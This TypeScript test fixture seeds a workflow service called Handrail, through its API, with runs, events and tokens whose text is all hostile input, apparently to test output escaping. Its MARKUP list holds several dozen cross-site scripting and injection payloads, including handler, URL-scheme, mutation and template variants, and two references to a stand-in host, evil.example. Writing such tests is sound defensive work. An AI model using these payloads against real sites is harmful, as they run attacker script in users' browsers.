/** Fills a Handrail with one run of each kind whose every text is an attack, through the API alone. */

type Post = (
  path: string,
  body: object,
  headers?: Record<string, string>,
) => Promise<{ status: number; body: Record<string, never> }>;

interface HostileClaim {
  id: string;
  epoch: number;
  secret: string;
}

export const poster =
  (url: string, token: string): Post =>
  async (path, body, headers = {}) => {
    const response = await fetch(`${url}/api/v1${path}`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}`, ...headers },
      body: JSON.stringify(body),
    });
    const answer = { status: response.status, body: (await response.json()) as Record<string, never> };
    if (response.status >= 400 && response.status !== 409) throw new Error(`${path}: ${JSON.stringify(answer.body)}`);
    return answer;
  };

/** Markup that runs by itself, breaks out of its context, or asks to be clicked. `CANARY` is what it would call. */
export const MARKUP = [
  "<img src=x onerror=CANARY>",
  "\"'><svg/onload=CANARY>",
  "</script><script>CANARY</script>",
  "javascript:CANARY",
  "<iframe srcdoc='<script>parent.CANARY</script>'></iframe>",
  "</title></textarea></style><img src=x onerror=CANARY>",
  "<math><mtext></table><mglyph><style><!--</style><img title='--><img src=x onerror=CANARY>'>",
  "<a href='javascript:CANARY' autofocus tabindex=1 onfocus=CANARY>x</a>",
  "<details open ontoggle=CANARY>",
  "<video><source onerror=CANARY>",
  "<body onload=CANARY>",
  "<object data='javascript:CANARY'></object>",
  "<form action='javascript:CANARY'><button autofocus>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:CANARY'>",
  "<link rel=stylesheet href='data:text/css,*{display:none}'>",
  "<style>@import 'data:text/css,*{display:none}';</style>",
  "<template><script>CANARY</script></template><noscript><img src=x onerror=CANARY></noscript>",
  "data:text/html,<script>CANARY</script>",
  "vbscript:CANARY",
  "java\tscript:CANARY",
  "\u0001javascript:CANARY",
  "{{constructor.constructor('CANARY')()}}",
  "#{CANARY}<%= CANARY %>",
  '[x](javascript:CANARY)![x](x"onerror="CANARY)',
  "&lt;img src=x onerror=CANARY&gt;&#60;script&#62;CANARY",
  "\\u003cimg src=x onerror=CANARY\\u003e",
  "<img src=x onerror\u00a0=CANARY><img/src=`x`onerror=CANARY>",
  "<ſcript>CANARY</ſcript><ﬁeld onfocus=CANARY>",
  "\u202e<img src=x onerror=CANARY>\u2066",
  'self.__next_f.push([1,"CANARY"])</script>',
  '$F1\n1:I["CANARY",[],""]\n',
  "*/CANARY/*",
  "'-CANARY-'",
  '\\"-CANARY}//',
  "//evil.example/CANARY",
] as const;

/** Part of every run; must not appear where no user is signed in. */
export const MARK = "reported-to-nobody";

export interface HostileRuns {
  failed: string;
  asking: string;
  owing: string;
  workflow: string;
}

/** Text that fits a field of so many letters, whole payloads only: as many as there is room for, beginning with one of them. */
function filled(payloads: readonly string[], from: number, room: number): string {
  let text = "";
  for (let index = 0; index < payloads.length; index++) {
    const next = payloads[(from + index) % payloads.length] as string;
    if (text.length + next.length < room) text += next;
  }
  return text || (payloads[0] as string).slice(0, room);
}

export async function hostileRuns(post: Post, payloads: readonly string[], from: number): Promise<HostileRuns> {
  const [short, middle, long] = [60, 190, 3_000].map((room) => filled(payloads, from, room)) as [
    string,
    string,
    string,
  ];
  // A name has letters, digits and dashes alone; a title has what it likes.
  const name = `hostile-${from}`;
  const value = { [short]: long, list: [short, { [middle]: long }], url: "javascript:" };
  const workflow = {
    name,
    title: middle,
    tags: { [short]: "/key" },
    retry: { maxAttempts: 1 },
    inputSchema: { type: "object", title: short, description: long },
  };
  const worker = await post("/worker/registrations", {
    name: middle,
    language: short,
    workflows: [workflow],
    leaseMs: 600_000,
  });
  const workerId = String(worker.body.workerId);
  const claimed = async (input: object) => {
    await post("/runs", {
      workflow: name,
      input,
      idempotencyKey: `${from}${middle}`.slice(0, 250) + Math.random(),
      tags: { [middle.slice(0, 64)]: middle, mark: MARK },
    });
    const { body } = await post(`/worker/registrations/${workerId}/claims`, { waitMs: 5_000 });
    const [run] = (body as unknown as { runs: HostileClaim[] }).runs;
    if (!run) throw new Error(`Nothing was claimed of ${name}.`);
    return run;
  };
  const step = encodeURIComponent(middle);
  const say = ({ id, epoch, secret }: HostileClaim, what: string, body: object) =>
    post(`/worker/runs/${id}/${what}`, { epoch, ...body }, { "handrail-claim": secret });
  const began = async (claim: HostileClaim, extra: object = { kind: "step" }) =>
    say(claim, `steps/${step}/attempts`, extra);
  const ended = (claim: HostileClaim, outcome: object) =>
    say(claim, `steps/${step}/outcome`, { attempt: 1, ...outcome });
  const error = {
    name: short,
    message: long,
    code: short,
    stack: `${short}: ${long}\n    at ${middle} (${short}:1:1)`,
    cause: { name: short, message: long },
  };

  const failed = await claimed({ key: short, ...value });
  await began(failed);
  await ended(failed, { outcome: "failed", error, retryable: false });
  await say(failed, "end", { outcome: "failed", error, failedStep: middle });
  // Refused, with its reason in the audit.
  await post(`/runs/${failed.id}/pause`, { reason: long.slice(0, 1_900) });

  const asking = await claimed({ key: middle, ...value });
  await post(`/runs/${asking.id}/events`, {
    name: "an.event",
    payload: value,
    id: middle,
    reason: long.slice(0, 1_900),
  });
  await began(asking, {
    kind: "approval",
    question: long.slice(0, 1_900),
    choices: [short.slice(0, 60), "no"],
    data: value,
  });
  await say(asking, "handback", { waitsFor: [middle] });

  const owing = await claimed({ key: short, ...value });
  await began(owing);
  const done = { outcome: "completed", output: value, reference: middle, compensate: "manual", instructions: long };
  await ended(owing, done);
  await say(owing, "end", { outcome: "completed", output: value });
  await post(`/runs/${owing.id}/compensations`, { reason: long.slice(0, 1_900) });

  await post(`/workflows/${encodeURIComponent(name)}/intake/closure`, { reason: long.slice(0, 1_900) });
  const spare = await post("/runs", { workflow: name, input: value, tags: { mark: MARK } });
  const selection = { runIds: [(spare.body as unknown as { id: string }).id] };
  const plan = await post("/plans", { act: "pause", params: {}, selection });
  const { id, hash } = plan.body as unknown as { id: string; hash: string };
  await post(`/plans/${id}/executions`, { hash, reason: long.slice(0, 1_900) });
  await post("/tokens", {
    name: middle.replaceAll(/[\p{Cc}\p{Cf}]/gu, "").slice(0, 90),
    scopes: ["viewer"],
    expiresInDays: 1,
    reason: long.slice(0, 1_900),
  });
  return { failed: failed.id, asking: asking.id, owing: owing.id, workflow: name };
}
